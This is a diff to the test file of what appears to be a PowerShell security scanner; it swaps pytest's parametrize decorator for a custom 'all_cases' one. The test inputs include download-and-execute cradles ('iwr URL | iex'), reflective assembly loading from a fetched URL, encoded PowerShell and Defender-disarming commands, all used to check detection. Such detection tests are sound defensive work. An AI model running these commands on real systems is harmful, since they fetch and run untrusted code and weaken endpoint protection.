@@ -5,6 +5,7 @@ from contextlib import suppress
 
 import pytest
 
+from tests.cases import all_cases
 from tests.timing import taking_less_than
 from vskill_platform.scan.facts.facts import Act, Fact
 from vskill_platform.scan.facts.hosts import HostClass
@@ -22,7 +23,7 @@ def facts_of(code: str, act: Act) -> list[Fact]:
     return [fact for fact in read_powershell(code) if fact.act is act]
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"iwr {URL} | iex",
@@ -56,7 +57,7 @@ def test_fetched_code_that_is_run_is_remote_code(code: str) -> None:
     assert {(f.host, f.host_class) for f in found} == {("get.example-tools.dev", HostClass.UNKNOWN)}
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"iwr {URL} -OutFile data.json",
@@ -94,7 +95,7 @@ def test_shell_code_hands_its_powershell_over() -> None:
     assert [f.detail for f in found if f.act is Act.RUN_DECODED] == [INNER]
 
 
-@pytest.mark.parametrize(
+@all_cases(
     ("code", "act", "detail"),
     [
         ("iex $x", Act.RUN_DYNAMIC, "iex"),
@@ -134,7 +135,7 @@ def test_each_command_is_noted(code: str, act: Act, detail: str) -> None:
     assert detail in [fact.detail for fact in facts_of(code, act)]
 
 
-@pytest.mark.parametrize(
+@all_cases(
     ("code", "act"),
     [
         ("Get-MpPreference", Act.DISARM),
@@ -192,20 +193,20 @@ def test_facts_stand_on_their_lines() -> None:
     assert [f.line for f in facts_of(f"ls\n\nirm {URL} |\n iex\n", Act.FETCH)] == [3]
 
 
-@pytest.mark.parametrize("code", ["", "'", '"', "(", ")", "<#", "@'", "$", "`", "^", "$x =",
+@all_cases("code", ["", "'", '"', "(", ")", "<#", "@'", "$", "`", "^", "$x =",
                                   "iex", "powershell", "powershell -enc", "cmd /c"])  # fmt: skip
 def test_broken_code_is_read_without_complaint(code: str) -> None:
     read_powershell(code)
 
 
-@pytest.mark.parametrize("piece", ["'", '"', "(", "<#", "$a=", "powershell -c ", "iex ", "'a'+'b'",
+@all_cases("piece", ["'", '"', "(", "<#", "$a=", "powershell -c ", "iex ", "'a'+'b'",
                                    "rm -r ", "[char]65+", "\n;", "$a='b';"])  # fmt: skip
 def test_hostile_code_takes_bounded_time(piece: str) -> None:
     with taking_less_than(5), suppress(Unparsed):
         read_powershell(piece * (200_000 // len(piece)))
 
 
-@pytest.mark.parametrize(
+@all_cases(
     "code",
     [
         f"[Reflection.Assembly]::Load((iwr {URL}).Content)",
